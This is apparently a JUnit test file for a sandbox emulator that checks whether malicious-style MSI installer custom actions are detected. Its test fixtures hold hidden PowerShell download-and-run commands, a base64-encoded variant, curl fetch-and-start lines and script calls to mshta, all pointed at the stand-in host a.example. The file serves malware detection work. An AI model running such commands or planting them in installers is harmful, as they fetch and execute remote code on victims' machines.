package dev.peekaboo.emulation.document;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.report.Behaviour;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.stream.Stream;

/** Harmless installers in the styles of mailed ones, and what they start. */
class InstallerTest {
    private static final String DOWNLOAD =
            "iwr http://a.example/x -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe";

    private static final String POWERSHELL = "powershell -w hidden -c \"" + DOWNLOAD + "\"";

    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, TestInstaller installer, String... expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Sample> samples() {
        String encoded =
                Base64.getEncoder().encodeToString(DOWNLOAD.getBytes(StandardCharsets.UTF_16LE));
        return Stream.of(
                new Sample(
                        "a command line in a folder",
                        TestInstaller.create().action("Go", 34, "TARGETDIR", POWERSHELL),
                        "installer_starts_interpreter",
                        "download_and_run"),
                new Sample(
                        "the same with wide references",
                        TestInstaller.wide().action("Go", 34, "TARGETDIR", POWERSHELL),
                        "download_and_run"),
                new Sample(
                        "an encoded command",
                        TestInstaller.create()
                                .action("Go", 34, "TARGETDIR", "powershell -enc " + encoded),
                        "encoded_command",
                        "download_and_run"),
                new Sample(
                        "a program in a property, its arguments in another set on the way",
                        TestInstaller.create()
                                .property("Shell", "[SystemFolder]cmd.exe")
                                .property("Host", "a.example")
                                .action(
                                        "Prepare",
                                        51,
                                        "Args",
                                        "/c curl -o %TEMP%\\a.exe http://[Host]/a & start %TEMP%\\a.exe")
                                .action("Go", 50, "Shell", "[Args]"),
                        "installer_starts_interpreter",
                        "download_and_run"),
                new Sample(
                        "a starter among the files of the installer",
                        TestInstaller.create()
                                .binary("viewer.exe", "MZ")
                                .action("Go", 2, "viewer.exe", "/HideWindow " + POWERSHELL),
                        "installer_starts_program",
                        "download_and_run"),
                new Sample(
                        "a file that was installed, by its key",
                        TestInstaller.create()
                                .row("File", "f1", "SETUP~1.EXE|setup tool.exe")
                                .action("Go", 18, "f1", "/S"),
                        "installer_starts_program"),
                new Sample(
                        "JavaScript in the table",
                        TestInstaller.create()
                                .action(
                                        "Go",
                                        37,
                                        "",
                                        "new ActiveXObject('WScript.Shell').Run('mshta http://a.example/a.hta');"),
                        "installer_runs_script",
                        "script_starts_interpreter"),
                new Sample(
                        "VBScript among the files of the installer",
                        TestInstaller.create()
                                .binary(
                                        "code",
                                        "CreateObject(\"WScript.Shell\").Run \"mshta http://a.example/a\", 0")
                                .action("Go", 6, "code", ""),
                        "installer_runs_script",
                        "script_starts_interpreter"),
                new Sample(
                        "VBScript that takes its command from what was set for it",
                        TestInstaller.create()
                                .action("Set", 51, "Go", "powershell -enc " + encoded)
                                .action(
                                        "Go",
                                        38,
                                        "",
                                        "CreateObject(\"WScript.Shell\").Run Session.Property(\"CustomActionData\"), 0"),
                        "script_starts_interpreter",
                        "download_and_run"),
                new Sample(
                        "JavaScript in a property",
                        TestInstaller.create()
                                .property(
                                        "Code",
                                        "new ActiveXObject('WScript.Shell').Run('cmd /c calc');")
                                .action("Go", 53, "Code", ""),
                        "script_starts_interpreter"),
                new Sample(
                        "the function of the WiX toolset that starts a command",
                        TestInstaller.create()
                                .action("Set", 51, "Go", POWERSHELL)
                                .action("Go", 1, "WixCA", "WixQuietExec"),
                        "installer_starts_interpreter",
                        "download_and_run"));
    }

    @ParameterizedTest
    @MethodSource("samples")
    void tells_what_it_starts(Sample sample) {
        EmulationReport report = run(sample.installer().text());

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
    }

    @Test
    void a_command_is_told_with_all_that_it_names() {
        EmulationReport report =
                run(
                        TestInstaller.create()
                                .property("Where", "[AppDataFolder]x")
                                .action("Go", 34, "", "tool.exe \"[Where]\" [\\[]a[\\]] [%TEMP]")
                                .text());

        assertThat(report.all(Behaviour.Type.PROCESS_START, "command"))
                .containsExactly("tool.exe \"C:\\Users\\user\\AppData\\Roaming\\x\" [a] %TEMP%");
        assertThat(report.completeness()).isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void what_runs_when_it_is_removed_does_not_count() {
        EmulationReport report =
                run(
                        TestInstaller.create()
                                .action("Go", 34, "", "cmd /c x", "REMOVE=\"ALL\"")
                                .action("Again", 34, "", "cmd /c y", "Installed")
                                .text());

        assertThat(report.behaviours()).isEmpty();
    }

    @Test
    void a_library_is_a_gap() {
        EmulationReport report =
                run(TestInstaller.create().action("Go", 1, "aicustact.dll", "Start").text());

        assertThat(report.coverage().unsupported())
                .containsExactly("a library of the installer: aicustact.dll");
    }

    @Test
    void a_text_of_more_than_64_kib_does_not_shift_those_behind_it() {
        EmulationReport report =
                run(
                        TestInstaller.create()
                                .property("Long", "x".repeat(100_000))
                                .action("Go", 34, "", "cmd /c after")
                                .text());

        assertThat(report.all(Behaviour.Type.PROCESS_START, "command")).contains("cmd /c after");
    }

    @Test
    void properties_that_name_each_other_end() {
        EmulationReport report =
                run(
                        TestInstaller.create()
                                .property("A", "[B][B][B][B][B][B][B][B][B][B]".repeat(20))
                                .property("B", "[A][A][A][A][A][A][A][A][A][A]".repeat(20))
                                .action("Go", 34, "", "cmd /c [A]")
                                .text());

        assertThat(report.coverage().entryPoints()).contains("installer");
    }

    @Test
    void damage_anywhere_is_no_more_than_a_report() {
        String whole =
                TestInstaller.create()
                        .property("Shell", "[SystemFolder]cmd.exe")
                        .action("Go", 50, "Shell", "/c curl http://a.example/x")
                        .action("Script", 38, "", "MsgBox 1")
                        .text();
        long seed = 20261123;
        Random random = new Random(seed);
        for (int i = 0; i < 300; i++) {
            StringBuilder damaged = new StringBuilder(whole);
            for (int j = 0; j < 1 + random.nextInt(20); j++)
                damaged.setCharAt(random.nextInt(whole.length()), (char) random.nextInt(256));
            damaged.setLength(
                    random.nextInt(4) == 0 ? random.nextInt(whole.length()) : whole.length());

            EmulationReport report = run(damaged.toString());

            assertThat(report.coverage().errors())
                    .as("seed %s, round %s", seed, i)
                    .noneMatch(error -> error.contains("broke"));
        }
    }

    private static EmulationReport run(String bytes) {
        return Emulated.run(Language.INSTALLER, bytes, "setup.msi");
    }
}
